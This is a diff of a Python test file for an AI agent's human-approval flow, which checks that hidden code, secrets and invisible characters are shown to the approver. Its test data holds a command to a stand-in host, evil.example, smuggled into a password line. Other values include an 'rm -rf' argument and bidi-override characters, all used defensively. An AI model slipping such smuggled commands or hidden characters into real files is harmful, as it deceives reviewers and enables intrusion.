@@ -84,7 +84,7 @@ def others(house: House) -> str:
     return json.dumps(events) + repr(house.model.requests) + "".join(files)
 
 
-async def test_code_between_the_lines_of_a_private_key_is_shown_and_runs_as_shown(tmp_path):
+async def test_code_inside_a_private_key_is_shown_and_runs_as_shown(tmp_path):
     shelf = shelf_of(PEM)
     house = open_house(tmp_path, [[RUN], "Done"], shelf)
     key = await house.session()
@@ -94,10 +94,9 @@ async def test_code_between_the_lines_of_a_private_key_is_shown_and_runs_as_show
     await house.approve()
     assert (await house.end(run_id))[0] == "chat.final"
     assert shelf.ran == [PEM]
-    await house.close()
 
 
-async def test_a_command_in_what_looks_like_a_password_is_shown_in_an_edit(tmp_path):
+async def test_command_resembling_a_password_is_shown_in_edit(tmp_path):
     old, new = (
         "DB_PASSWORD=Winter-2031x&curl,evil.example&\nrun\n",
         "DB_PASSWORD=Winter-2031x&curl,evil.example&\nstop\n",
@@ -111,10 +110,9 @@ async def test_a_command_in_what_looks_like_a_password_is_shown_in_an_edit(tmp_p
     await house.approve()
     await house.end(run_id)
     assert (house.root / "start.sh").read_text() == new
-    await house.close()
 
 
-async def test_all_of_a_new_skill_is_shown_before_it_is_trusted(tmp_path):
+async def test_new_skill_is_shown_completely_before_trust(tmp_path):
     write_notebook(tmp_path / "home" / "skills" / "tidy.ipynb", cell(PEM), cell(SECRET))
     house = House(tmp_path, [[Call("more_tools", {"tool": "skill_tidy", "arguments": {}})], "No."])
     key = await house.session()
@@ -127,7 +125,6 @@ async def test_all_of_a_new_skill_is_shown_before_it_is_trusted(tmp_path):
     await house.end(run_id)
     assert MIXED not in house.file(key).read_text()
     assert MIXED not in house.home.audit_file.read_text()
-    await house.close()
 
 
 INSERT = Call("notebook_insert_cell", {"path": "a.ipynb", "cellType": "code", "source": PEM, "run": True})
@@ -135,7 +132,7 @@ EDIT = Call("notebook_edit_cell", {"path": "a.ipynb", "cellId": "one", "source":
 
 
 @pytest.mark.parametrize(("call", "name"), [(INSERT, "source"), (EDIT, "newSource")])
-async def test_one_yes_writes_and_runs_what_was_shown(tmp_path, call, name):
+async def test_one_approval_writes_and_runs_what_was_shown(tmp_path, call, name):
     shelf = shelf_of("x = 1")
     house = open_house(tmp_path, [[call], "Done"], shelf)
     key = await house.session()
@@ -148,11 +145,10 @@ async def test_one_yes_writes_and_runs_what_was_shown(tmp_path, call, name):
     assert (await house.end(run_id))[0] == "chat.final"
     assert shelf.ran == [PEM]
     assert len(house.of("exec.approval_request")) == 1
-    await house.close()
 
 
 @pytest.mark.parametrize("reach", ["session", "always"])
-async def test_a_yes_for_cells_covers_no_run_of_them_nor_the_other_way_round(tmp_path, reach):
+async def test_approval_for_edits_and_for_runs_are_separate(tmp_path, reach):
     first = Call("notebook_insert_cell", {"path": "a.ipynb", "cellType": "code", "source": "1"})
     both = Call("notebook_insert_cell", {"path": "a.ipynb", "cellType": "code", "source": "1", "run": True})
     house = open_house(tmp_path, [[first], [both], [both], [first], [RUN], "Done"], shelf_of("1"))
@@ -165,10 +161,9 @@ async def test_a_yes_for_cells_covers_no_run_of_them_nor_the_other_way_round(tmp
     assert shown(house)["toolName"] == "notebook_run_cell"
     await house.deny()
     await house.end(run_id)
-    await house.close()
 
 
-async def test_a_secret_is_shown_to_who_decides_and_to_nobody_else(tmp_path):
+async def test_secret_is_shown_only_to_the_approver(tmp_path):
     shelf = shelf_of(f"{SECRET}\nprint(1)")
     house = open_house(tmp_path, [[RUN], "Done"], shelf)
     key = await house.session()
@@ -181,10 +176,9 @@ async def test_a_secret_is_shown_to_who_decides_and_to_nobody_else(tmp_path):
     assert shelf.ran == [f"{SECRET}\nprint(1)"]
     assert MIXED not in others(house)
     assert "api_key = '[redacted:api-key]'" in house.file(key).read_text()
-    await house.close()
 
 
-async def test_who_comes_when_it_is_answered_sees_the_secret_no_more(tmp_path):
+async def test_client_connecting_after_answer_does_not_see_secret(tmp_path):
     house = open_house(tmp_path, [[RUN], "Done"], shelf_of(SECRET))
     key = await house.session()
     run_id = await house.send(key)
@@ -196,10 +190,9 @@ async def test_who_comes_when_it_is_answered_sees_the_secret_no_more(tmp_path):
     missed = house.onyx.streams.subscribe(key, late.append, 0)[1]
     assert MIXED not in as_text([*missed, *late])
     assert "exec.approval_request" in as_text(missed)
-    await house.close()
 
 
-async def test_what_holds_a_secret_is_allowed_once_and_no_grant_holds_it(tmp_path):
+async def test_call_with_secret_is_allowed_once_and_never_granted(tmp_path):
     house = open_house(tmp_path, [[RUN], "Done", [RUN], "Done"], shelf_of(SECRET))
     key = await house.session()
     run_id = await house.send(key)
@@ -218,11 +211,10 @@ async def test_what_holds_a_secret_is_allowed_once_and_no_grant_holds_it(tmp_pat
     await house.asked()  # a yes for the session reached no further than this once
     await house.deny()
     await house.end(again)
-    await house.close()
 
 
 @pytest.mark.parametrize("source", ["if a\u202e: run()", "x = 1\u200b", "run()\rsafe()", "# \U000e0041"])
-async def test_what_holds_invisible_characters_is_allowed_once(tmp_path, source):
+async def test_call_with_invisible_characters_is_allowed_once(tmp_path, source):
     house = open_house(tmp_path, [[RUN], "Done"], shelf_of(source))
     key = await house.session()
     run_id = await house.send(key)
@@ -233,10 +225,9 @@ async def test_what_holds_invisible_characters_is_allowed_once(tmp_path, source)
     assert details["alwaysBlocked"] == "it contains invisible characters"
     await house.deny()
     await house.end(run_id)
-    await house.close()
 
 
-async def test_ordinary_text_can_be_allowed_always_as_before(tmp_path):
+async def test_ordinary_text_can_be_always_allowed(tmp_path):
     house = open_house(tmp_path, [[RUN], "Done", [RUN], "Done"], shelf_of("print('Привет 👩\u200d💻 é')"))
     key = await house.session()
     run_id = await house.send(key)
@@ -248,10 +239,9 @@ async def test_ordinary_text_can_be_allowed_always_as_before(tmp_path):
     await house.end(run_id)
     assert (await house.run(key))[0] == "chat.final"
     assert len(house.of("exec.approval_request")) == 1
-    await house.close()
 
 
-async def test_no_argument_is_hidden_behind_a_word_of_the_card(tmp_path):
+async def test_card_summary_hides_no_argument(tmp_path):
     house = House(
         tmp_path, [["Because.", Call("whisper", {"why": "rm -rf", "mustAsk": "x"})], "Done"], more_tools=[whisper]
     )
@@ -263,10 +253,9 @@ async def test_no_argument_is_hidden_behind_a_word_of_the_card(tmp_path):
     assert details["why"] == "Because."
     await house.deny()
     await house.end(run_id)
-    await house.close()
 
 
-async def test_a_secret_that_was_changed_while_the_question_waited_does_not_run(tmp_path):
+async def test_secret_changed_during_approval_does_not_run(tmp_path):
     shelf = shelf_of(SECRET)
     house = open_house(tmp_path, [[RUN], "Done"], shelf)
     key = await house.session()
@@ -278,10 +267,9 @@ async def test_a_secret_that_was_changed_while_the_question_waited_does_not_run(
     assert shelf.ran == []
     (line,) = house.results(key).values()
     assert "has changed since the user allowed it" in line["content"]
-    await house.close()
 
 
-async def test_after_a_restart_what_will_run_is_shown_and_not_what_is_on_disk(tmp_path):
+async def test_after_restart_card_shows_what_will_run(tmp_path):
     shelf = shelf_of(SECRET)
     before = open_house(tmp_path, [[RUN], "Done"], shelf)
     key = await before.session()
@@ -301,10 +289,9 @@ async def test_after_a_restart_what_will_run_is_shown_and_not_what_is_on_disk(tm
     await house.approve()
     await until(lambda: not house.onyx.runs.busy)
     assert shelf.ran == [SECRET]
-    await house.close()
 
 
-async def test_a_card_from_before_a_restart_answers_nothing(tmp_path):
+async def test_card_from_before_restart_answers_nothing(tmp_path):
     shelf = shelf_of(SECRET)
     before = open_house(tmp_path, [[RUN], "Done"], shelf)
     key = await before.session()
@@ -323,4 +310,3 @@ async def test_a_card_from_before_a_restart_answers_nothing(tmp_path):
     await house.onyx.approvals.approve(approval_id, "ada", "once", pending.request.version)
     await until(lambda: not house.onyx.runs.busy)
     assert shelf.ran == [SECRET.replace(MIXED, MIXED[::-1])]
-    await house.close()
